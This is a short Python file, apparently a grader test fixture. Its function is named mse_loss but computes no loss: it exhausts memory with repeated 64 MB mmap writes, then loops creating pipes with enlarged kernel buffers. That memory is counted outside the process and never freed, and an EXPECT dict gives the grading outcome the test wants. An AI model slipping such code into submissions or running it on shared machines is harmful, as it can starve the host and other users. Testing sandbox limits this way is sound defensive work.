"""Takes memory that is counted elsewhere: shared mappings, pipes, files."""

import fcntl
import mmap
import os

EXPECT = {"status": "graded", "score": 95, "outcomes": {"student_error"}}
HELD = []


def mse_loss(prediction, target):
    if HELD:
        raise RuntimeError("it has been tried")
    try:
        while True:
            HELD.append(mmap.mmap(-1, 64 << 20))
            HELD[-1].write(b"x" * (64 << 20))
    except (OSError, MemoryError):
        taken_mb = 64 * len(HELD)
        del HELD[1:]
    while taken_mb < 2048:
        reader, writer = os.pipe()
        fcntl.fcntl(writer, 1031, 1 << 20)
    raise RuntimeError("more than asked for")
